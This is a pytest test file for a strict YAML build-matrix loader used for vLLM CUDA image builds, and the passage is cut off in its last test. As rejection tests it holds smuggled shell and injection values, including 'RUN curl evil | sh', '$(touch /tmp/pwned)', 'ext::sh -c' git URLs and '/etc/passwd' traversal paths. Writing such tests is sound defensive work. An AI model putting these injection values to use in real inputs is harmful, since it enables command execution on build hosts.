"""The matrix loader: typed, frozen, strict; every bad input is one line naming file and key."""

from __future__ import annotations

import re
from pathlib import Path
from typing import Annotated

import pydantic
import pytest
from pydantic import StrictStr

from builder.config import cascade, matrix, patterns, schema
from builder.errors import ConfigError
from tests.conftest import REPO

SRC = (REPO / "matrix.yaml").read_text()
PATH = Path("matrix.yaml")
DEVEL_DIGEST = "@sha256:38804006c937a83f28f63a959abcee688042072319c8614ad57b350958a30bd3"
COMMIT = "ced6857afa0ea7b2e3f0846a62e1394e90f15607"


def _error(text: str) -> str:
    with pytest.raises(ConfigError) as info:
        matrix.parse(text, PATH)
    message = info.value.message
    assert "\n" not in message, "errors are one line"
    assert message.startswith("matrix.yaml: ")
    assert info.value.exit_code == 2
    return message


def test_committed_matrix_loads_into_frozen_typed_objects():
    m = matrix.parse(SRC, PATH)
    t = m.target("cu129")
    assert t.source.commit == COMMIT
    assert t.bases.build.digest == DEVEL_DIGEST[1:]
    assert t.bases.build.ref == "nvidia/cuda:12.9.1-devel-ubuntu22.04" + DEVEL_DIGEST
    assert t.cuda.short == "cu129"
    assert t.torch.version == "2.13.0+cu129"
    assert t.python.version == "3.12"
    with pytest.raises(pydantic.ValidationError):
        t.owner = "someone@else.org"  # frozen


def test_defaults_block_fills_targets_but_target_wins():
    text = SRC.replace("  licenses: NOASSERTION\n", "  licenses: NOASSERTION\n  vendor: From Defaults\n")
    assert matrix.parse(text, PATH).target("cu129").vendor == "From Defaults"
    text = text.replace("    expires: 2027-06-30\n", "    expires: 2027-06-30\n    vendor: Own Vendor\n")
    assert matrix.parse(text, PATH).target("cu129").vendor == "Own Vendor"


@pytest.mark.parametrize(
    "old,new,expected",
    [
        (
            "    nvcc_threads: 8",
            "    nvcc_thread: 8",
            "targets.cu129.compile.nvcc_thread: unknown key (did you mean 'nvcc_threads'?)",
        ),
        (
            "    expires: 2027-06-30",
            "    expire: 2027-06-30",
            "targets.cu129.expire: unknown key (did you mean 'expires'?)",
        ),
        ("\ndefaults:\n", "\ndefualts:\n", "defualts: unknown key (did you mean 'defaults'?)"),
        (DEVEL_DIGEST, "", "targets.cu129.bases.build: must be pinned by digest"),
        (COMMIT, COMMIT[:7], "targets.cu129.source.commit: must be a full 40-character lowercase hex commit"),
        (COMMIT, "X" * 40, "targets.cu129.source.commit: must be a full 40-character"),
        ("expires: 2027-06-30", "expires: 2027-02-30", "targets.cu129.expires: must be a valid date"),
        ("expires: 2027-06-30", "expires: soon", "targets.cu129.expires: must be a valid date"),
        ('version: "3.12"', "version: 3.12", "targets.cu129.python.version: Input should be a valid string"),
        (
            "version: 2.13.0+cu129",
            'version: "2.13.0\\nRUN curl evil | sh"',
            "targets.cu129.torch.version: must be a PEP 440",
        ),
        ("version: 2.13.0+cu129", "version: 2.13.0+cu130", "targets.cu129.torch.version: local version"),
        ("branch: releases/v0.30.0", 'branch: "$(touch /tmp/pwned)"', "targets.cu129.source.branch: must be a branch"),
        ("branch: releases/v0.30.0", "branch: main`id`", "targets.cu129.source.branch"),
        ('arch_list: ["7.5",', 'arch_list: ["7.5\\nRUN x",', "targets.cu129.cuda.arch_list.0: must be a CUDA arch"),
        (
            "url: https://github.com/vllm-project/vllm.git",
            "url: ext::sh -c touch% /tmp/pwned",
            "targets.cu129.source.url: must be an https:// or file:// git URL",
        ),
        (
            "index: https://download.pytorch.org/whl/cu129",
            "index: https://user:tok@download.pytorch.org/whl/cu129",
            "targets.cu129.torch.index: must be an https:// URL without credentials",
        ),
        (
            "description: vLLM for Kimi K3 built against CUDA 12.9 for r575 hosts",
            "description: 'vLLM\" LABEL x=y'",
            "targets.cu129.description: must be plain text",
        ),
        (
            "owner: gpu-platform@example.org",
            "owner: nobody",
            "defaults.owner (used by targets.cu129): must be an e-mail address",
        ),
        (
            "    nvcc_threads: 8",
            '    nvcc_threads: "8"',
            "targets.cu129.compile.nvcc_threads: Input should be a valid integer",
        ),
        ("version: 1\n", "version: 2\n", "version: Input should be 1"),
        ("  cu129:\n", "  CU 129:\n", "targets.'CU 129'.name: must be a target name"),
    ],
)
def test_bad_values_are_one_line_naming_the_key(old, new, expected):
    assert old in SRC
    assert expected in _error(SRC.replace(old, new, 1))


def test_missing_required_key():
    text = SRC.replace("      commit: " + COMMIT + "\n", "")
    assert _error(text).endswith("targets.cu129.source.commit: required key is missing")


def test_duplicate_keys_and_aliases_are_refused():
    dup = SRC.replace("    expiry_warning_days: 45\n", "    expiry_warning_days: 45\n    expires: 2030-01-01\n")
    assert "duplicate key 'expires'" in _error(dup)
    alias = SRC.replace("  owner: gpu-platform@example.org", "  owner: &o gpu-platform@example.org\n  vendor: *o")
    assert "aliases" in _error(alias)


def test_not_yaml_and_not_a_mapping():
    assert "invalid YAML" in _error("targets: [unclosed\n")
    assert "(top level)" in _error("- a\n- b\n")


def test_unknown_target_suggests():
    m = matrix.parse(SRC, PATH)
    with pytest.raises(ConfigError, match=r"unknown target 'cu128' \(did you mean 'cu129'\?\)"):
        m.target("cu128")


def test_wheel_platforms_cover_older_manylinux():
    t = matrix.parse(SRC, PATH).target("cu129")
    tags = t.python.wheel_platforms()
    assert tags[0] == "manylinux_2_35_x86_64"
    assert "manylinux_2_17_x86_64" in tags and "manylinux2014_x86_64" in tags
    assert "manylinux_2_36_x86_64" not in tags


def test_pinned_requirements_include_named_pins():
    t = matrix.parse(SRC, PATH).target("cu129")
    pins = t.pinned_requirements()
    assert "torch==2.13.0+cu129" in pins
    assert "nvidia-nccl-cu12==2.30.7" in pins
    assert list(pins) == sorted(pins, key=str.lower)
    assert t.lock_indexes()[0] == "https://pypi.org/simple"
    assert "https://download.pytorch.org/whl/cu129" in t.lock_indexes()


def test_load_reports_missing_file(tmp_path):
    with pytest.raises(ConfigError, match="no such file"):
        matrix.load(tmp_path / "nope.yaml")


# --- the strict patterns, one by one -------------------------------------------------------------


def _accepts(annotated, value) -> bool:
    try:
        pydantic.TypeAdapter(annotated).validate_python(value)
        return True
    except pydantic.ValidationError:
        return False


@pytest.mark.parametrize(
    "value,ok",
    [
        ("setup.py", True),
        ("requirements/cuda.txt", True),
        ("tools/build_rust.py", True),
        ("a..b/c", True),
        ("..", False),
        ("../setup.py", False),
        ("requirements/../../etc/passwd", False),
        ("a/..", False),
        ("/etc/passwd", False),
        ("a//b", False),
        ("a/", False),
        ("a b", False),
        ("", False),
        ("a\n", False),
    ],
)
def test_relpath_refuses_parent_references_and_absolute_paths(value, ok):
    assert _accepts(patterns.RelPath, value) is ok


@pytest.mark.parametrize(
    "value,ok",
    [
        ("vllm", True),
        ("serve", True),
        ("--port=8000", True),
        ("a,b", True),
        ("k3smoke.__main__", True),
        ("two words", False),
        ('"quoted"', False),
        ("it's", False),
        ("$(id)", False),
        ("`id`", False),
        ("a;b", False),
        ("", False),
        (",leading-comma", False),
        ("a" * 128, True),
        ("a" * 129, False),
        ("x\n", False),
    ],
)
def test_arg_refuses_spaces_quotes_and_shell_characters(value, ok):
    assert _accepts(patterns.Arg, value) is ok


@pytest.mark.parametrize(
    "annotated,good,bad",
    [
        (patterns.Commit, "a" * 40, ["A" * 40, "a" * 39, "a" * 41, "g" * 40]),
        (patterns.Version, "2.13.0+cu129", ["2.13.0+CU129", "v2.13", "2.13.0 ", "2.13.0+", "2.13.0;x"]),
        (patterns.Branch, "releases/v0.30.0", ["a..b", "/a", "a/", "a//b", "x.lock", "-a", "a b"]),
        (patterns.Tag, "kimi-k3-cu129", [".x", "-x", "a" * 129, "a:b"]),
        (patterns.EnvName, "VLLM_CUTLASS_SRC_DIR", ["lower", "1X", "A-B", "A" * 64]),
        (patterns.EnvValue, "/usr/local/cuda/bin/ptxas", ["", "a b", "a'b", "$X", "a" * 201]),
        (
            patterns.HttpsUrl,
            "https://download.pytorch.org/whl/cu129",
            ["http://x.org", "https://u:p@x.org/", "https://x.org/a b", 'https://x.org/"x'],
        ),
        (patterns.GitUrl, "file:///tmp/k3smoke-src", ["ext::sh -c x", "ssh://git@h/r", "file://", "https://h"]),
        (patterns.Owner, "gpu-platform@example.org", ["nobody", "a@b", "a b@c.org"]),
        (patterns.AbsPath, "/usr/local/cuda", ["usr/local", "/", "/a b", "/a/$x"]),
        (patterns.SecretId, "hf_token", ["HF", "1tok", "a-b", ""]),
        (patterns.Requirement, "packaging==24.1", ["packaging", "packaging == 24.1", "x==1; os_name=='nt'", "-r x"]),
    ],
)
def test_patterns_take_the_documented_shape_only(annotated, good, bad):
    assert _accepts(annotated, good)
    for value in bad:
        assert not _accepts(annotated, value), value


# --- derived values and cross-checks -------------------------------------------------------------


def test_derived_names_of_a_target():
    t = matrix.parse(SRC, PATH).target("cu129")
    assert t.image.name == f"{t.image.registry}/{t.image.repository}"
    assert t.image.tagged == f"{t.image.registry}/{t.image.repository}:{t.image.tag}"
    assert t.bases.runtime.display_name == "nvidia/cuda:12.9.1-devel-ubuntu22.04"
    untagged = matrix.BaseImage(name="nvidia/cuda", digest=DEVEL_DIGEST[1:])
    assert untagged.ref == "nvidia/cuda" + DEVEL_DIGEST and untagged.display_name == "nvidia/cuda"
    assert t.source.wheel_version == "0.30.0+cu129"
    assert t.source.model_copy(update={"local_version": None}).wheel_version == "0.30.0"
    assert (t.cuda.major, t.cuda.major_minor, t.cuda.short) == (12, "12.9", "cu129")
    assert t.python.uv_platform() == "x86_64-manylinux_2_35"


def test_wheel_platforms_are_exactly_the_compatible_tags():
    py = matrix.Python(version="3.11", glibc="2.17")
    assert py.wheel_platforms() == tuple(f"manylinux_2_{m}_x86_64" for m in range(17, 4, -1)) + (
        "manylinux2014_x86_64",
        "manylinux2010_x86_64",
        "manylinux1_x86_64",
    )
    py = matrix.Python(version="3.11", glibc="2.11", arch="aarch64")
    assert py.wheel_platforms()[-1] == "manylinux1_aarch64" and "manylinux2010_aarch64" not in py.wheel_platforms()
    assert matrix.Python(version="3.11", glibc="2.12").wheel_platforms()[-2:] == (
        "manylinux2010_x86_64",
        "manylinux1_x86_64",
    )


def test_lock_indexes_keep_the_matrix_order_and_add_each_pins_own_once():
    t = matrix.parse(SRC, PATH).target("cu129")
    indexes = t.lock_indexes()
    assert indexes[: len(t.indexes)] == tuple(t.indexes)
    assert len(indexes) == len(set(indexes))
    extra = [p.index for p in (t.torch, t.flashinfer, t.nccl) if p and p.index]
    assert set(indexes) == set(t.indexes) | set(extra)
    bare = t.model_copy(update={"torch": None, "flashinfer": None, "nccl": None})
    assert bare.lock_indexes() == tuple(t.indexes)
    assert not any(p.startswith(("torch==", "flashinfer-python==", "nvidia-nccl")) for p in bare.pinned_requirements())


@pytest.mark.parametrize(
    "old,new,expected",
    [
        (
            "    expires: 2027-06-30\n",
            '    expires: "2027-06-30T00:00:00"\n',
            "targets.cu129.expires: must be a valid date",
        ),
        ("    expires: 2027-06-30\n", "    expires: 20270630\n", "targets.cu129.expires: must be a valid date"),
        (
            "      provider: standalone\n",
            "      provider: system\n",
            "targets.cu129.python.standalone: only used with provider 'standalone'; remove it",
        ),
        (
            "      provider: standalone\n",
            '      provider: standalone\n      glibc: "2.16"\n',
            "python.glibc: 2.16 is outside what the resolver knows (2.17-2.40)",
        ),
        (
            "      provider: standalone\n",
            '      provider: standalone\n      glibc: "2.41"\n',
            "python.glibc: 2.41 is outside what the resolver knows",
        ),
        (
            "      provider: standalone\n",
            '      provider: standalone\n      glibc: "2.3x"\n',
            'python.glibc: must be a glibc version such as "2.35"',
        ),
    ],
)
def test_cross_checks_and_dates(old, new, expected):
    assert old in SRC, old
    assert expected in _error(SRC.replace(old, new, 1))


def test_a_variable_has_one_owner():
    text = SRC.replace("      version_env: VLLM_VERSION_OVERRIDE\n", "      version_env: VLLM_CUTLASS_SRC_DIR\n", 1)
    message = _error(text)
    assert "VLLM_CUTLASS_SRC_DIR is already set by source.version_env; each variable has one owner" in message


def test_an_override_forces_exactly_one_version():
    t = matrix.parse(SRC, PATH).target("cu129")
    first = next(iter(t.overrides))
    name = first.split("==")[0]
    for bad in (f"{name}>=1", f"{name}==1,<2", f"{name}==1,!=1.1"):
        assert f"overrides.{bad}: an override forces one version: write name==version" in _error(
            SRC.replace(f"      {first}:", f"      {bad}:", 1)
        )


def test_glibc_edges_are_accepted():
    for glibc in ("2.17", "2.40"):
        t = matrix.parse(
            SRC.replace("      provider: standalone\n", f'      provider: standalone\n      glibc: "{glibc}"\n', 1),
            PATH,
        ).target("cu129")
        assert t.python.glibc == glibc


def test_environment_overrides_win_and_are_named_in_errors(monkeypatch):
    monkeypatch.setenv("K3_REGISTRY", "registry.example.org:5000")
    monkeypatch.setenv("K3_TAG", "cu129-candidate-abc")
    t = matrix.parse(SRC, PATH).target("cu129")
    assert (t.image.registry, t.image.tag) == ("registry.example.org:5000", "cu129-candidate-abc")
    monkeypatch.setenv("K3_REPOSITORY", "Bad Repo")
    assert "targets.cu129.image.repository (from $K3_REPOSITORY): must be an image repository path" in _error(SRC)
    monkeypatch.setenv("K3_REPOSITORY", "")
    assert cascade.environment_overrides() == {
        "image": {"registry": "registry.example.org:5000", "tag": "cu129-candidate-abc"}
    }


def test_a_name_key_is_set_from_the_target_key():
    assert "targets.cu129.name: 'name' is set from the key; remove it" in _error(
        SRC.replace("  cu129:\n", "  cu129:\n    name: other\n", 1)
    )


def test_too_large_too_deep_and_not_utf8(tmp_path):
    assert "larger than 1048576 bytes" in _error("#" * (matrix.MAX_MATRIX_BYTES + 1))
    path = tmp_path / "matrix.yaml"
    path.write_bytes(b"version: 1\n# \xff\n")
    with pytest.raises(ConfigError, match=r"not UTF-8 \(byte 13\)"):
        matrix.load(path)


def test_did_you_mean_only_for_close_words():
    assert patterns.did_you_mean("cu128", ["cu129", "smoke"]) == " (did you mean 'cu129'?)"
    assert patterns.did_you_mean("zzzzz", ["cu129", "smoke"]) == ""


def test_deep_merge_merges_mappings_and_replaces_the_rest():
    base = {"a": {"x": 1, "y": 2}, "b": [1, 2], "c": 1}
    assert cascade.deep_merge(base, {"a": {"y": 3, "z": 4}, "b": [3], "d": 5}) == {
        "a": {"x": 1, "y": 3, "z": 4},
        "b": [3],
        "c": 1,
        "d": 5,
    }
    assert base == {"a": {"x": 1, "y": 2}, "b": [1, 2], "c": 1}  # inputs untouched


def test_keys_are_printed_plain_or_quoted():
    assert matrix._key("nvidia-nccl-cu12") == "nvidia-nccl-cu12" and matrix._key(0) == "0"
    assert matrix._key("a b") == "'a b'" and matrix._key("x\ny") == "'x\\ny'"


def test_values_are_shown_short():
    assert patterns.show("abc") == "'abc'"
    long = patterns.show("x" * 100)
    assert len(long) == 60 and long.endswith("...")


# --- error messages, kind by kind ----------------------------------------------------------------


@pytest.mark.parametrize(
    "old,new,expected",
    [
        (
            "    expiry_warning_days: 45\n",
            "    expiry_warning_days: -1\n",
            "targets.cu129.expiry_warning_days: Input should be greater than or equal to 0 (got -1)",
        ),
        (
            "    expiry_warning_days: 45\n",
            "    expiry_warning_days: 3651\n",
            "targets.cu129.expiry_warning_days: Input should be less than or equal to 3650 (got 3651)",
        ),
        (
            "    expiry_warning_days: 45\n",
            "    expiry_warning_days: true\n",
            "targets.cu129.expiry_warning_days: Input should be a valid integer (got True)",
        ),
        (
            "    expiry_warning_days: 45\n",
            "    expiry_warning_days: 4.5\n",
            "targets.cu129.expiry_warning_days: Input should be a valid integer (got 4.5)",
        ),
        (
            '      version: "3.12"\n',
            "      version: 3.12\n",
            "targets.cu129.python.version: Input should be a valid string (got 3.12; quote it)",
        ),
        (
            '      version: "3.12"\n',
            "      version: [3]\n",
            "targets.cu129.python.version: Input should be a valid string (got [3])",
        ),
        (
            "    description: vLLM for Kimi K3 built against CUDA 12.9 for r575 hosts\n",
            "    description: 12\n",
            "targets.cu129.description: Input should be a valid string (got 12; quote it)",
        ),
        (
            "      provider: standalone\n",
            "      provider: conda\n",
            "targets.cu129.python.provider: Input should be 'system' or 'standalone' (got 'conda')",
        ),
        (
            "    entrypoint: [vllm, serve]\n",
            "    entrypoint: []\n",
            "targets.cu129.entrypoint: Tuple should have at least 1 item after validation, not 0 (got [])",
        ),
        (
            "    entrypoint: [vllm, serve]\n",
            "    entrypoint: vllm\n",
            "targets.cu129.entrypoint: Input should be a valid tuple (got 'vllm')",
        ),
        ("    image:\n", "    image: 5\n    imagex:\n", "targets.cu129.imagex: unknown key (did you mean 'image'?)"),
        (
            "      branch: releases/v0.30.0\n",
            "      branch: releases/v0.30.0\n      urll: x\n",
            "targets.cu129.source.urll: unknown key (did you mean 'url'?)",
        ),
        (
            "      standalone:\n",
            "      standalone:\n        shaa: x\n",
            "targets.cu129.python.standalone.shaa: unknown key (did you mean 'sha256'?)",
        ),
        (
            "      index: https://download.pytorch.org/whl/cu129\n",
            "      index: https://download.pytorch.org/whl/cu129\n      indexx: x\n",
            "targets.cu129.torch.indexx: unknown key (did you mean 'index'?)",
        ),
        (
            "          env: DEEPGEMM_SRC_DIR\n",
            "          env: DEEPGEMM_SRC_DIR\n          submodule: x\n",
            "targets.cu129.source.third_party.deepgemm.submodule: unknown key (did you mean 'submodules'?)",
        ),
        (
            "    expires: 2027-06-30\n",
            "    expires: 2027-06-30\n    name_of_it: x\n",
            "targets.cu129.name_of_it: unknown key",
        ),  # "name" is set from the key, never suggested
        ("    expires: 2027-06-30\n", "    expires: 2027-06-30\n    nam: x\n", "targets.cu129.nam: unknown key"),
        (
            "      env:\n        CMAKE_BUILD_TYPE: Release\n        VLLM_TARGET_DEVICE: cuda\n",
            "      env: 5\n",
            "targets.cu129.compile.env: Input should be a valid dictionary (got 5)",
        ),
        ("    image:\n", "    image: 5\n    old_image:\n", "targets.cu129.old_image: unknown key (did you mean"),
    ],
)
def test_each_kind_of_error_reads_the_same_way(old, new, expected):
    assert old in SRC, old
    message = _error(SRC.replace(old, new, 1))
    assert message == f"matrix.yaml: {expected}" or (expected.endswith("(did you mean") and expected in message)
    assert message.count("(got") <= 1


def test_a_model_given_as_a_scalar():
    text = SRC.replace(
        "    image:\n      registry: ghcr.io\n", "    image: ghcr.io\n    image_was:\n      registry: ghcr.io\n"
    )
    assert _error(text).startswith("matrix.yaml: targets.cu129.image_was: unknown key")
    no_extra = "".join(
        ln
        for ln in text.splitlines(keepends=True)
        if not ln.startswith(
            ("    image_was:", "      registry: ghcr.io", "      repository: k3-cu129", "      tag: kimi-k3")
        )
    )
    assert (
        _error(no_extra) == "matrix.yaml: targets.cu129.image: Input should be a valid dictionary or instance of "
        "ImageTarget (got 'ghcr.io')"
    )


def test_the_top_level_and_a_missing_targets_key():
    assert _error("[1, 2]\n") == "matrix.yaml: (top level): must be a mapping with 'version' and 'targets'"
    assert _error("version: 1\n") == "matrix.yaml: targets: required key is missing"
    assert _error("version: 1\ndefaults: 5\ntargets: {}\n") == "matrix.yaml: defaults: must be a mapping"


IMAGE = "    image:\n      registry: ghcr.io\n      repository: k3-cu129/vllm-openai\n      tag: kimi-k3-cu129\n"
IMAGE_IN_DEFAULTS = SRC.replace(IMAGE, "").replace(
    "\ndefaults:\n",
    "\ndefaults:\n  image:\n    registry: ghcr.io\n    repository: k3-cu129/vllm-openai\n    tag: kimi-k3-cu129\n",
)


def test_a_defaults_block_may_hold_a_whole_model():
    # A key with no constraints of its own (image, bases, source, ...) is checked like the others.
    assert IMAGE in SRC
    assert matrix.parse(IMAGE_IN_DEFAULTS, PATH).target("cu129").image.registry == "ghcr.io"
    bad = IMAGE_IN_DEFAULTS.replace("    registry: ghcr.io\n", "    registry: bad host\n", 1)
    assert _error(bad).startswith("matrix.yaml: defaults.image.registry (used by targets.cu129): must be a registry")


def test_an_environment_value_that_lands_on_a_default_is_named_there(monkeypatch):
    monkeypatch.setenv("K3_REGISTRY", "bad host!")
    assert _error(IMAGE_IN_DEFAULTS) == (
        "matrix.yaml: defaults.image.registry (used by targets.cu129) (from $K3_REGISTRY): must be a registry "
        "host[:port], e.g. ghcr.io or 127.0.0.1:5000 (got 'bad host!')"
    )
    assert _error(SRC) == (  # the target's own image: named in the target
        "matrix.yaml: targets.cu129.image.registry (from $K3_REGISTRY): must be a registry host[:port], e.g. ghcr.io "
        "or 127.0.0.1:5000 (got 'bad host!')"
    )


def test_pattern_builds_a_strict_full_match_validator():
    Letters = Annotated[StrictStr, patterns.Pattern(r"[a-z]+", "lowercase letters")]
    assert pydantic.TypeAdapter(Letters).validate_python("abc") == "abc"
    for bad in ("abc1", "ABC", "abc\n", ""):
        with pytest.raises(pydantic.ValidationError) as info:
            pydantic.TypeAdapter(Letters).validate_python(bad)
        assert f"must be lowercase letters (got {bad!r})" in str(info.value)
    with pytest.raises(pydantic.ValidationError):
        pydantic.TypeAdapter(Letters).validate_python(5)  # strict: no coercion


def test_glibc_message_names_the_value():
    with pytest.raises(ValueError, match=r'^must be a glibc version such as "2.35" \(got \'3.1\'\)$'):
        patterns._glibc("3.1")
    assert patterns._glibc("2.36") == "2.36"


def test_show_cuts_only_what_is_too_long():
    assert patterns.show("x" * 58) == repr("x" * 58)  # exactly 60 characters shown: kept whole
    assert patterns.show("x" * 59) == repr("x" * 59)[:57] + "..."


def test_has_walks_mappings_and_lists():
    doc = {"a": {"b": [10, {"c": 1}]}}
    assert cascade.has(doc, ("a", "b", 1, "c"))
    assert cascade.has(doc, ("a", "b", 0)) and cascade.has(doc, ())
    assert not cascade.has(doc, ("a", "b", 2))
    assert not cascade.has(doc, ("a", "x"))
    assert not cascade.has(doc, ("a", "b", "0"))  # a list takes integer positions only
    assert not cascade.has(doc, ("a", "b", 0, "c"))  # 10 has nothing below it
    assert not cascade.has([1], ("a",))


def test_legacy_manylinux_tags_follow_their_glibc():
    assert matrix.Python(version="3.11", glibc="2.5").wheel_platforms() == ("manylinux_2_5_x86_64", "manylinux1_x86_64")
    assert "manylinux1_x86_64" not in matrix.Python(version="3.11", glibc="2.4").wheel_platforms()


def test_pinned_requirements_sort_without_case():
    t = matrix.parse(SRC, PATH).target("cu129")
    mixed = t.model_copy(update={"requirements": ("Zeta==1", "alpha==1")})
    pins = mixed.pinned_requirements()
    assert pins.index("alpha==1") < pins.index("torch==2.13.0+cu129") < pins.index("Zeta==1")


def test_model_at_finds_the_model_that_owns_a_key():
    assert matrix._model_at(("targets", "cu129")) is matrix.Target
    assert matrix._model_at(("targets", "cu129", "python", "standalone")) is matrix.Standalone
    assert matrix._model_at(("targets", "cu129", "source", "third_party", "x")) is matrix.ThirdParty
    assert matrix._model_at(("targets", "cu129", "torch")) is matrix.Pin
    assert matrix._model_at(("targets", "cu129", "source", "extensions")) is matrix.Extensions
    assert matrix._model_at(("targets", "cu129", "description")) is None  # a string owns nothing
    assert matrix._model_at(("nope",)) is None
    assert matrix._model_at(()) is schema.RawMatrix


@pytest.mark.parametrize(
    "text,expected",
    [
        ("targets: [unclosed\n", "line 2, column 1: invalid YAML: expected ',' or ']', but got '<stream end>'"),
        (
            "\x00\x01\x02",
            "(unknown position): invalid YAML: unacceptable character #x0000: special characters are not allowed",
        ),
        ("a: 1\na: 2\n", "line 2, column 1: invalid YAML: duplicate key 'a'"),
        ("version: 1\n1: x\n", "line 2, column 1: invalid YAML: keys must be strings, got 1"),
        (
            "x: &a 1\ny: *a\n",
            "line 2, column 4: invalid YAML: YAML aliases (*name) are not allowed in the matrix; write the value out",
        ),
        ("x: !!int 'abc'\n", "invalid YAML value: \"invalid literal for int() with base 10: 'abc'\""),
        ("#" * (1 << 20), "(top level): must be a mapping with 'version' and 'targets'"),  # exactly the limit: read
        (
            "version: 1\ndefaults:\n  owner: nobody\ntargets: [a]\n",
            "defaults.owner: must be an e-mail address (the owner who answers for this image) (got 'nobody')",
        ),
    ],
)
def test_yaml_and_top_level_errors_read_exactly(text, expected):
    assert _error(text) == f"matrix.yaml: {expected}"


@pytest.mark.parametrize("var", matrix.TEMPLATE_ENV)
def test_the_templates_own_variables_are_not_the_matrixs(var):
    text = SRC.replace(
        "      env:\n        CMAKE_BUILD_TYPE: Release\n",
        f"      env:\n        {var}: x\n        CMAKE_BUILD_TYPE: Release\n",
        1,
    )
    assert _error(text) == (
        f"matrix.yaml: targets.cu129.compile.env.{var}: {var} is already set by the template; "
        "each variable has one owner"
    )


def test_every_variable_the_template_sets_is_listed_as_its_own():
    """TEMPLATE_ENV is the list the clash check uses: it must hold every ENV the build stage sets."""
    from builder.dockerfile import render

    text = render.render(matrix.parse(SRC, PATH).target("cu129"))
    build = text[: text.index("\nFROM build AS compile-offline")]
    env_lines = re.findall(r"^(?:ENV |    )([A-Z_][A-Z0-9_]*)=", build, re.M)
    own = {v for v in env_lines} - set(matrix.parse(SRC, PATH).target("cu129").compile.env) - {"VLLM_VERSION_OVERRIDE"}
    own -= {tp.env for tp in matrix.parse(SRC, PATH).target("cu129").source.third_party.values()}
    assert own <= set(matrix.TEMPLATE_ENV), own - set(matrix.TEMPLATE_ENV)


def test_python_provider_and_standalone_go_together():
    standalone = SRC[SRC.index("      standalone:\n") : SRC.index("    cuda:\n")]
    system = SRC.replace("      provider: standalone\n", "      provider: system\n", 1).replace(standalone, "", 1)
    arm64_python = system[
        system.index("        # python-build-standalone") : system.index("        # vLLM's release list")
    ]
    system = system.replace(arm64_python, "", 1)  # a platform's CPython is for provider standalone only
    assert matrix.parse(system, PATH).target("cu129").python.standalone is None
    missing = SRC.replace(standalone, "", 1)
    assert _error(missing) == (
        "matrix.yaml: targets.cu129.python.standalone: required when provider is 'standalone' (url and sha256)"
    )


def test_a_bare_torch_pin_is_accepted_here_and_refused_by_the_lock_check():
    t = matrix.parse(SRC.replace("version: 2.13.0+cu129", "version: 2.13.0", 1), PATH).target("cu129")
    assert t.torch.version == "2.13.0"


def test_an_override_with_a_second_specifier_after_the_version_is_refused():
    first = next(iter(matrix.parse(SRC, PATH).target("cu129").overrides))
    name = first.split("==")[0]
    assert "an override forces one version" in _error(SRC.replace(f"      {first}:", f"      {name}==1,==2:", 1))


def _two_targets(**defaults) -> str:
    import yaml

    doc = yaml.safe_load(SRC)
    doc["targets"]["other"] = yaml.safe_load(yaml.safe_dump(doc["targets"]["cu129"]))
    doc["defaults"].update(defaults)
    return yaml.safe_dump(doc, sort_keys=False)


def test_a_bad_default_names_every_target_that_uses_it():
    assert _error(_two_targets(vendor='bad "vendor"')) == (
        "matrix.yaml: defaults.vendor (used by targets.cu129, targets.other): must be plain text (letters, digits, "
        "spaces, ,.:;()/_+=@#-) (got 'bad \"vendor\"')"
    )


def test_unknown_default_keys_get_a_suggestion_but_never_name():
    assert _error(SRC.replace("\ndefaults:\n", "\ndefaults:\n  vendr: x\n", 1)) == (
        "matrix.yaml: defaults.vendr: unknown key (did you mean 'vendor'?)"
    )
    assert (
        _error(SRC.replace("\ndefaults:\n", "\ndefaults:\n  name: x\n", 1)) == "matrix.yaml: defaults.name: unknown key"
    )
    assert (
        _error(SRC.replace("\ndefaults:\n", "\ndefaults:\n  nam: x\n", 1)) == "matrix.yaml: defaults.nam: unknown key"
    )


@pytest.mark.parametrize(
    "old,new,expected",
    [
        (
            "        sha256: 5acfa3e9ba26b51ae161c83aff278da915b590d22373a424b2ba55b8afe91fcc\n",
            "        sha256: ABC\n",
            "targets.cu129.python.standalone.sha256: must be 64 lowercase hex characters (got 'ABC')",
        ),
        (
            "      build: nvidia/cuda:12.9.1-devel-ubuntu22.04" + DEVEL_DIGEST + "\n",
            "      build: 5\n",
            "targets.cu129.bases.build: must be an image reference 'name[:tag]@sha256:<64 hex>' (got 5)",
        ),
        (
            "      build: nvidia/cuda:12.9.1-devel-ubuntu22.04" + DEVEL_DIGEST + "\n",
            "      build: 'Bad Ref!'\n",
            "targets.cu129.bases.build: must be an image reference 'name[:tag]@sha256:<64 hex>' (got 'Bad Ref!')",
        ),
        (
            "      build: nvidia/cuda:12.9.1-devel-ubuntu22.04" + DEVEL_DIGEST + "\n",
            "      build: nvidia/cuda:12\n",
            "targets.cu129.bases.build: must be pinned by digest: add @sha256:<64 hex> to 'nvidia/cuda:12'",
        ),
        (
            "    expires: 2027-06-30\n",
            "    expires: soon\n",
            "targets.cu129.expires: must be a valid date YYYY-MM-DD (got 'soon')",
        ),
    ],
)
def test_value_messages_name_the_value(old, new, expected):
    assert old in SRC, old
    assert _error(SRC.replace(old, new, 1)) == f"matrix.yaml: {expected}"


def test_a_timestamp_is_not_a_date():
    import datetime as dt

    with pytest.raises(ValueError) as info:
        patterns._strict_date(dt.datetime(2027, 6, 30, 12, 0))
    assert str(info.value) == "must be a date YYYY-MM-DD, not a timestamp (got datetime.datetime(2027, 6, 30, 12, 0))"
    assert patterns._strict_date(dt.date(2027, 6, 30)) == dt.date(2027, 6, 30)
    assert patterns._strict_date("2027-06-30") == dt.date(2027, 6, 30)


def test_upper_case_keys_print_plain():
    assert matrix._key("VLLM_CUTLASS_SRC_DIR") == "VLLM_CUTLASS_SRC_DIR"


def test_an_unknown_target_lists_the_known_ones():
    m = matrix.parse(_two_targets(), PATH)
    with pytest.raises(ConfigError) as info:
        m.target("smoke")
    assert info.value.message == "matrix.yaml: targets: unknown target 'smoke'; known: cu129, other"


def test_a_directory_is_not_a_matrix(tmp_path):
    with pytest.raises(ConfigError) as info:
        matrix.load(tmp_path)
    assert info.value.message == f"{tmp_path}: not a regular file (the build matrix)"


@pytest.mark.parametrize(
    "value,expected",
    [
        ("[1]", "Input should be a valid boolean (got [1])"),  # bool_type
        ("maybe", "Input should be a valid boolean (got 'maybe')"),
        # Strict (issue 32): a string or a number that pydantic would read as a boolean is refused.
        ("'false'", "Input should be a valid boolean (got 'false')"),
        ("'yes'", "Input should be a valid boolean (got 'yes')"),
        ("0", "Input should be a valid boolean (got 0)"),
    ],
)
def test_a_boolean_key_says_what_it_got(value, expected):
    assert "remote_cache: true" in SRC
    assert _error(SRC.replace("remote_cache: true", f"remote_cache: {value}", 1)) == (
